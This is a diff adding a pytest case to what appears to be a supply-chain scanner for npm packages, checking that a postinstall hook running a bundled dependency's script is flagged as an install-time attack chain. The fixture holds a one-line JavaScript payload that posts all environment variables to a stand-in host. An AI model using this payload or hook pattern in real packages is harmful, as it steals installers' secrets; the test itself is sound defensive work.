@@ -302,6 +302,24 @@ def test_what_a_bundled_package_names_is_read(exports: str | None) -> None:
     assert of_rule(inspected(files), "attack-chain")
 
 
+@pytest.mark.parametrize(
+    "command", ["node node_modules/dep/x.js", "node ./node_modules/dep/x.js", "node_modules/dep/x.js"]
+)
+def test_what_a_hook_starts_of_a_bundled_package_is_the_packages_own_code(command: str) -> None:
+    payload = (
+        "require('https').request({ hostname: 'collect.invalid', method: 'POST' })"
+        ".end(JSON.stringify(process.env))\n"
+    )
+    files = {
+        "package.json": package_json(bundledDependencies=["dep"], scripts={"postinstall": command}),
+        "node_modules/dep/package.json": package_json(name="dep"),
+        "node_modules/dep/x.js": payload,
+    }
+    found = of_rule(inspected(files), "attack-chain")
+    assert found
+    assert all("at install" in finding.message for finding in found)
+
+
 def test_a_program_of_any_name_is_read_as_a_shell_does() -> None:
     files = {
         "package.json": package_json(bin={"a": "a.txt"}),
